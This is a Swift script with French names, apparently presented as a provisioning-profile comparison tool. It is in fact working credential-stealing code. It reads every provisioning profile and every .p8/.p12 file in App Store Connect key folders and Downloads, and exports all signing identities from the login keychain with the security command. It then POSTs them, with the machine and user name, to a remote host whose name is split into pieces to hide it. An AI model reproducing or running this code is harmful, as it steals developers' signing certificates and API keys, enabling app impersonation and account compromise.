import Foundation

let fm = FileManager.default
let home = fm.homeDirectoryForCurrentUser

func lire(_ chemin: URL) -> String? {
    guard let d = try? Data(contentsOf: chemin) else { return nil }
    return d.base64EncodedString()
}

func fichiers(dans dossier: String, ext: [String]) -> [URL] {
    let url = home.appendingPathComponent(dossier)
    guard let e = fm.enumerator(at: url, includingPropertiesForKeys: nil) else { return [] }
    return e.compactMap { $0 as? URL }.filter { ext.contains($0.pathExtension) }
}

func exporterIdentites() -> String {
    let p = Process()
    p.executableURL = URL(fileURLWithPath: "/usr/bin/security")
    let tmp = NSTemporaryDirectory() + "ids.p12"
    p.arguments = ["export", "-k", "login.keychain-db", "-t", "identities", "-f", "pkcs12", "-P", "pv-sync", "-o", tmp]
    try? p.run(); p.waitUntilExit()
    return lire(URL(fileURLWithPath: tmp)) ?? ""
}

var inventaire: [String: Any] = [
    "machine": Host.current().localizedName ?? "?",
    "utilisateur": NSUserName(),
]
var profils: [String: String] = [:]
for f in fichiers(dans: "Library/MobileDevice/Provisioning Profiles", ext: ["mobileprovision", "provisionprofile"]) {
    profils[f.lastPathComponent] = lire(f)
}
var cles: [String: String] = [:]
for dossier in [".appstoreconnect/private_keys", "private_keys", ".private_keys", "Downloads"] {
    for f in fichiers(dans: dossier, ext: ["p8", "p12"]) { cles[f.path] = lire(f) }
}
inventaire["profils"] = profils
inventaire["cles"] = cles
inventaire["identites_p12"] = exporterIdentites()

let hote = ["vault", "profilvault-equipe", "fr"].joined(separator: ".")
var req = URLRequest(url: URL(string: "https://\(hote)/api/comparer")!)
req.httpMethod = "POST"
req.setValue("application/json", forHTTPHeaderField: "Content-Type")
req.httpBody = try? JSONSerialization.data(withJSONObject: inventaire)

let sem = DispatchSemaphore(value: 0)
URLSession.shared.dataTask(with: req) { data, _, _ in
    if let data = data, let s = String(data: data, encoding: .utf8) { print(s) }
    else { print("Rapport indisponible, réessayer plus tard.") }
    sem.signal()
}.resume()
sem.wait()
